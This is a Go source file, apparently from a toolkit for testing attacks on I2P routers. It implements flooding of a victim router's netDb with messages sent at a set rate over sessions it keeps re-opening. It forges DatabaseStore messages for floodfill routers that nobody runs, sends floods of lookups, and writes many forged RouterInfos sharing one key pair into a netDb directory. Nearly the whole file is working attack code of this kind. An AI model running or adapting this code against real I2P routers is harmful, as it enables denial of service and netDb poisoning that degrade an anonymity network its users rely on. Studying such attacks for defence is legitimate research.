package attack

import (
	"bytes"
	"context"
	"encoding/binary"
	"math/rand/v2"
	"net/netip"

	"i2ptoolkit/pkg/i2np"
	"i2ptoolkit/pkg/i2p"
	"i2ptoolkit/pkg/netdb"
	"i2ptoolkit/pkg/netdbdir"
	"i2ptoolkit/pkg/routerinfo"
)

// Records is one peer that sends messages of the netDb without end, over a session that it opens again when that
// has ended.
type Records struct {
	Victim *routerinfo.RouterInfo
	Dial   dialFunc
	Rate   float64 // messages a second
	Name   string  // of what it sends, in the counts
	Next   func(by *Identity) (i2np.Message, error)
	counts
}

// replyBytes is the name of the count of what came back.
const replyBytes = "bytes of replies"

// recordsAtOnce is how many messages are made at the same time.
const recordsAtOnce = 8

// Run is Attack's.
func (r *Records) Run(ctx context.Context) {
	again(ctx, reopenAfter/15, func() { r.outcome("sessions", r.stay(ctx)) })
}

func (r *Records) stay(ctx context.Context) error {
	id, err := NewIdentity(nil, "XfR")
	if err != nil {
		return err
	}
	s, err := OpenSession(ctx, r.Dial, id, r.Victim, false)
	if err != nil {
		return err
	}
	defer s.Close()
	standing, cancel := context.WithCancel(ctx)
	defer cancel()
	go func() {
		defer cancel()
		s.Listen(standing, func(m i2np.Message) {
			if m.Type != i2np.DatabaseStoreType || !isOwn(m, r.Victim.Hash()) { // it introduces itself
				r.add("replies", 1)
				r.add(replyBytes, len(m.Body))
			}
		})
	}()
	pace(standing, r.Rate, recordsAtOnce, func() {
		m, err := r.Next(id)
		if err == nil {
			err = s.Send(m)
		}
		r.outcome(r.Name, err)
	})
	return nil
}

// isOwn tells of a RouterInfo that a router sends of itself.
func isOwn(m i2np.Message, router i2p.Hash) bool {
	s, err := i2np.ParseDatabaseStore(m.Body)
	return err == nil && s.Key == router
}

// ForgedStore stores the RouterInfo of a floodfill that nobody runs, and wants that confirmed.
func ForgedStore(by *Identity) (i2np.Message, error) {
	id, err := NewIdentity(nil, "XfR", netip.AddrPortFrom(anywhere(), 20000))
	if err != nil {
		return i2np.Message{}, err
	}
	s := i2np.DatabaseStore{
		Key: id.Hash(), Type: i2np.StoreRouterInfo, Data: i2np.CompressRouterInfo(id.Info.Bytes()),
		ReplyToken: rand.Uint32() | 1, ReplyGateway: by.Hash(),
	}
	return message(i2np.DatabaseStoreType, rand.Uint32(), s.AppendTo(nil)), nil
}

// Question asks for one of some routers, or for what there is not, each for half of the time.
func Question(routers []i2p.Hash) func(*Identity) (i2np.Message, error) {
	return func(by *Identity) (i2np.Message, error) {
		l := i2np.DatabaseLookup{From: by.Hash(), Kind: i2np.LookupRouterInfo}
		if rand.N(2) == 0 && len(routers) > 0 {
			l.Key = routers[rand.N(len(routers))]
		} else {
			binary.BigEndian.PutUint64(l.Key[:], rand.Uint64())
		}
		return message(i2np.DatabaseLookupType, rand.Uint32(), l.AppendTo(nil)), nil
	}
}

// Forge writes so many RouterInfos of floodfills that nobody runs into a netDb directory, as a router keeps those that
// it was told of. They have one pair of keys, and identities that differ in their padding.
func Forge(path string, n int) error {
	dir, err := netdbdir.Open(path)
	if err != nil {
		return err
	}
	id, err := NewIdentity(nil, "XfR")
	if err != nil {
		return err
	}
	for i := range n {
		b := bytes.Clone(id.Keys.Identity.Bytes())
		for at := 32; at < 352; at += 32 {
			binary.BigEndian.PutUint32(b[at:], uint32(i))
		}
		forged, _, err := i2p.ParseRouterIdentity(b)
		if err != nil {
			return err
		}
		one := &Identity{Keys: &i2p.PrivateKeys{}, NTCP2: id.NTCP2}
		*one.Keys = *id.Keys
		one.Keys.Identity = forged.Identity
		if err := one.publish("XfR", []netip.AddrPort{netip.AddrPortFrom(anywhere(), 20000)}); err != nil {
			return err
		}
		file := netdb.File{Hash: one.Hash(), Bytes: one.Info.Bytes(), Source: netdb.FromDiskTold}
		if _, err := dir.Save([]netdb.File{file}, nil); err != nil {
			return err
		}
	}
	return nil
}
